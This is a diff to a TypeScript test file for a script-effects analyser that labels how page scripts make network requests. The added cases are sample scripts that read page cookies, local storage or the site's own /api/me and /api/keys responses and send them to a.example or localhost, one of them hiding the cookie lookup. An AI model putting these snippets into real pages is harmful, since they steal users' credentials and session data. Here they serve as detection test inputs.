@@ -79,6 +79,12 @@ test.each<[string, readonly string[]]>([
   ['() => fetch("https://a.example/x").then((r) => r.json())', ['connect a.example']],
   ['() => fetch("https://a.example/x", { method: "POST", body: "a" })', ['send: connect a.example']],
   ['() => fetch("https://a.example/?" + document.title)', ['send: connect a.example']],
+  // The page's own site, and another one that is told nothing.
+  ['async () => [await fetch("/api/me"), await fetch("https://a.example/x")]', ['connect a.example']],
+  [
+    'async () => { const t = await (await fetch("/api/me")).text(); return fetch("http://localhost:3001/x", { method: "POST", body: t }) }',
+    ['send: connect localhost'],
+  ],
 ])('a request is a connection: %s', (script, expected) => {
   expect(effectsOf(script)).toEqual(expected);
 });
@@ -88,6 +94,10 @@ describe('what else a page can do is unseen', () => {
     '() => fetch("https://a.example/?" + document.cookie)',
     '() => fetch("https://a.example/", { method: "POST", body: JSON.stringify(localStorage) })',
     '() => fetch("https://a.example/", { credentials: "include" })',
+    'async () => { const t = await (await fetch("/api/me")).text(); await fetch("https://a.example/", { method: "POST", body: t }) }',
+    '() => fetch("/api/keys").then((r) => r.text()).then((t) => fetch("https://a.example/?" + t))',
+    'async () => { const r = await fetch("api/me"); fetch(`https://a.example/?${await r.text()}`) }',
+    '() => { const c = document["coo" + "kie"]; return fetch("https://a.example/?" + c) }',
     '() => fetch("https://a.example/", options)',
     '() => fetch(url)',
     '() => fetch(`https://${host}/x`)',
